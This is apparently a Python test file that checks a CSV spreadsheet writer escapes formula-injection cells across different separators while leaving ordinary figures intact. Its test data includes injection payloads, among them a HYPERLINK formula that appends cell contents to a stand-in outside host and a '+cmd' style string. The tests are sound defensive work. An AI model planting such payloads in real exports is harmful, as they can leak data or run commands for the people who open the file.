"""CSV files: no text in them becomes a formula, whichever separator is expected."""

from __future__ import annotations

import csv
import io

from django.test import SimpleTestCase

from hypothesis import given
from hypothesis import strategies as st

from releases.text.spreadsheets import SpreadsheetWriter

FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TEXTS = st.lists(
    st.sampled_from(
        [*FORMULA_STARTS, *" ,;|\t\r\n\"'", "a", "1", "3.5%", "SUM(A1)", "\u00a0"]
    ),
    max_size=8,
).map("".join)


def cells_of(*rows: list[str | int | None], separator: str = ",") -> list[list[str]]:
    """Return the cells that a spreadsheet with this separator sees in the rows."""
    file = io.StringIO(newline="")
    writer = SpreadsheetWriter(file)
    for row in rows:
        writer.write_row(row)
    file.seek(0)
    return list(csv.reader(file, delimiter=separator))


def written(text: str) -> str:
    """Return what a spreadsheet shows of a cell with this text."""
    ((cell, _),) = cells_of([text, ""])
    return cell


class ACell(SimpleTestCase):
    """Shows the text that was written into it."""

    def test_a_formula_is_shown_and_not_calculated(self) -> None:
        for text in (
            '=HYPERLINK("https://x.example.com/"&A1)',
            "+SUM(A1)",
            "-2+3+cmd",
            "@SUM(A1)",
            "\uff1d1+1",
        ):
            with self.subTest(text):
                assert written(text) == f"'{text}"

    def test_one_behind_spaces_or_separators_is_none_either(self) -> None:
        for text, shown in (
            ("\t=1+1", "'=1+1"),
            ("\r\n =1+1", "'=1+1"),
            (", =1+1", "', =1+1"),
            ('"=1+1"', '\'"=1+1"'),
            ("a;=1+1", "a;'=1+1"),
            ("a; @x", "a;' @x"),
        ):
            with self.subTest(text):
                assert written(text) == shown

    def test_figures_and_words_stay_as_they_are(self) -> None:
        for text in (
            *("-", "-3.5%", "+12", "-1,204", "- $5", "(1,204)", "–", "a = b"),
            *("year-end", "ir@example.com", "loss; -3.5%"),
        ):
            with self.subTest(text):
                assert written(text) == text

    def test_a_number_stays_a_number_and_none_is_empty(self) -> None:
        assert cells_of([-3, None, "a"]) == [["-3", "", "a"]]

    @given(st.lists(TEXTS, min_size=2, max_size=3))
    def test_none_begins_as_a_formula_whatever_the_separator(
        self, texts: list[str]
    ) -> None:
        for separator in (",", ";", "\t", "|"):
            for row in cells_of([*texts], separator=separator):
                for cell in row:
                    text = cell.strip()
                    # With another separator a figure and what follows are one cell.
                    figure = text.split(",")[0]
                    assert not text.startswith(FORMULA_STARTS) or is_figure(figure)

    @given(TEXTS)
    def test_nothing_is_lost_of_a_text(self, text: str) -> None:
        line = " ".join(text.split())
        assert written(text).replace("'", "") == line.replace("'", "")


def is_figure(text: str) -> bool:
    """Return whether a cell has a sign and digits, and no reference to another cell."""
    return text[0] in "+-" and not set(text[1:]) - set("0123456789., %$\xa0,;\"'")
